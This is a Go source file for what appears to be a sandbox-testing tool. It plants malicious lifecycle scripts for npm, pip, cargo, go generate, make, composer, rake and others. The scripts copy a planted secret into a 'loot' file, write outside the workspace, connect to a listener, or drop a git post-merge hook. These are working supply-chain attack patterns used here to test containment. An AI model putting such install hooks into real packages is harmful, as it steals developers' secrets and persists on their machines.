//go:build linux

package probe

import (
	"bytes"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"time"
)

// lifecycleLimit is for a package manager: npm alone takes a second to come up.
const lifecycleLimit = 30 * time.Second

// lifecycleProbes let package managers run what a package brings along, which then
// attacks: it reads a secret of the home directory and writes outside.
func lifecycleProbes() []Probe {
	p := func(id, program, title string, files map[string]string, args ...string) Probe {
		return Probe{ID: "lifecycle." + id, Severity: Boundary, Title: title, Why: "a dependency's scripts run with your rights, unseen", Wall: "the same walls as for everything inside", Fix: "see the probes of the category files",
			Needs: needProgram(program), MayLack: true, Limit: lifecycleLimit,
			Plant: func(c *Case) error {
				dir := c.own(c.WS)
				if err := c.write(filepath.Join(dir, "evil.sh"), evilScript()); err != nil {
					return err
				}
				for name, text := range files {
					if err := c.write(filepath.Join(dir, name), text); err != nil {
						return err
					}
				}
				c.Watch(c.own(c.Out))
				c.Args["dir"], c.Args["target"] = dir, c.own(c.Out)
				return c.Secret(c.own(c.Home))
			},
			Attack: runProgram(program, args...),
			Judge:  either(cameOut, touched)}
	}
	// connects is for one whose script speaks to a server outside.
	connects := func(q Probe) Probe {
		plant := q.Plant
		q.Plant = func(c *Case) error { return errors.Join(plant(c), c.Listen("tcp4")) }
		q.Wall, q.Judge = "a network namespace of its own", heard
		return q
	}
	// hooks is for one whose script leaves a hook for git.
	hooks := func(q Probe) Probe {
		plant := q.Plant
		q.Plant = func(c *Case) error { c.Watch(c.WS + "/.git/hooks/post-merge"); return plant(c) }
		q.Severity, q.Wall, q.Judge, q.Dirty = Persistence, wallBroker, touched, true
		return q
	}
	const hook = "#!/bin/sh\ncp evil.sh ../.git/hooks/post-merge\n: > ran\n"
	return []Probe{
		p("npm-postinstall", "npm", "read a secret from the scripts of npm, a dependency's too", map[string]string{
			"package.json":     `{"name":"prove","version":"1.0.0","dependencies":{"dep":"file:./dep"},"scripts":{"postinstall":"sh ./evil.sh"}}` + "\n",
			"dep/package.json": `{"name":"dep","version":"1.0.0","scripts":{"install":"sh ../evil.sh"}}` + "\n",
		}, "install", "--offline", "--no-audit", "--no-fund", "--loglevel=error", "--install-links=false"),
		connects(p("node", "node", "connect outside from a script of node", map[string]string{
			"connect.js": "const fs=require('fs'),[h,p]=process.env.PROVE_ADDRESS.split(':');fs.writeFileSync('ran','');const s=require('net').connect(+p,h,()=>s.end(process.env.PROVE_NONCE));s.on('error',e=>{console.error(e.message);process.exit(1)});\n",
		}, "connect.js")),
		p("pip", "python3", "read a secret from the setup.py of a Python package", map[string]string{
			"setup.py": "import subprocess\nsubprocess.call(['sh','./evil.sh'])\nfrom setuptools import setup\nsetup(name='prove',version='1.0')\n",
		}, "-m", "pip", "install", "--no-index", "--no-deps", "--no-build-isolation", "--disable-pip-version-check", "--target", "into", "."),
		p("setup-py", "python3", "read a secret from a setup.py that is run by itself", map[string]string{
			"setup.py": "import subprocess\nsubprocess.call(['sh','./evil.sh'])\n",
		}, "setup.py", "--name"),
		connects(p("python", "python3", "connect outside from a script of Python", map[string]string{
			"connect.py": "import os,socket\nopen('ran','w').close()\nh,p=os.environ['PROVE_ADDRESS'].split(':')\ns=socket.create_connection((h,int(p)),2)\ns.sendall(os.environ['PROVE_NONCE'].encode())\ns.recv(9)\n",
		}, "connect.py")),
		p("cargo", "cargo", "read a secret from the build.rs of a Rust package", map[string]string{
			"Cargo.toml":  "[package]\nname = \"prove\"\nversion = \"1.0.0\"\nedition = \"2021\"\n[workspace]\n",
			"build.rs":    "fn main() { let _ = std::process::Command::new(\"sh\").arg(\"./evil.sh\").status(); }\n",
			"src/main.rs": "fn main() {}\n",
		}, "check", "--offline", "--quiet"),
		p("go-generate", "go", "read a secret from go generate", map[string]string{
			"go.mod":  "module prove.invalid\n",
			"main.go": "package main\n\n//go:generate sh ./evil.sh\nfunc main() {}\n",
		}, "generate", "./..."),
		p("make", "make", "read a secret from a Makefile", map[string]string{"Makefile": "all:\n\tsh ./evil.sh\n"}),
		hooks(p("make-hook", "make", "leave a hook for git from a Makefile", map[string]string{"Makefile": "all:\n\tsh ./hook.sh\n", "hook.sh": hook})),
		p("configure", "sh", "read a secret from a configure script", map[string]string{"configure": evilScript()}, "./configure"),
		p("perl", "perl", "read a secret from a Makefile.PL", map[string]string{"Makefile.PL": "system('sh','./evil.sh');\n"}, "Makefile.PL"),
		p("composer", "composer", "read a secret from a script of composer", map[string]string{
			"composer.json": `{"name":"prove/prove","scripts":{"post-install-cmd":"sh ./evil.sh"}}` + "\n",
		}, "install", "--no-interaction", "--quiet"),
		p("rake", "rake", "read a secret from a Rakefile", map[string]string{"Rakefile": "task(:default) { sh 'sh ./evil.sh' }\n"}),
	}
}

// evilScript reads a secret, writes outside, and says that it ran.
func evilScript() string {
	return "cd \"$PROVE_DIR\"\ncat \"$PROVE_SECRET\" > loot\necho evil > \"$PROVE_TARGET\"\n: > ran\n"
}

// runProgram runs a program in the case's directory. What its scripts found comes
// out in a file; whether they ran at all, in another.
func runProgram(program string, args ...string) func(*Inside) error {
	return func(in *Inside) error {
		path, err := exec.LookPath(program)
		if err != nil {
			return in.Lack(program)
		}
		c := exec.Command(path, args...)
		c.Dir = in.Args["dir"]
		c.Env = append(os.Environ(), "PROVE_DIR="+c.Dir, "PROVE_SECRET="+in.Args["path"], "PROVE_TARGET="+in.Args["target"], "PROVE_ADDRESS="+in.Args["address"], "PROVE_NONCE="+in.Nonce)
		c.WaitDelay = time.Second
		var out bounded
		c.Stdout, c.Stderr = &out, &out
		err = c.Run()
		loot, _ := os.ReadFile(filepath.Join(c.Dir, "loot"))
		in.Loot(loot)
		if _, e := os.Stat(filepath.Join(c.Dir, "ran")); e != nil {
			if errors.Is(err, os.ErrPermission) {
				return err
			}
			return in.Lack(fmt.Sprintf("%s that works here", program))
		}
		return fmt.Errorf("%w: %v: %s", errHeld, err, bytes.TrimSpace(out.Bytes()))
	}
}
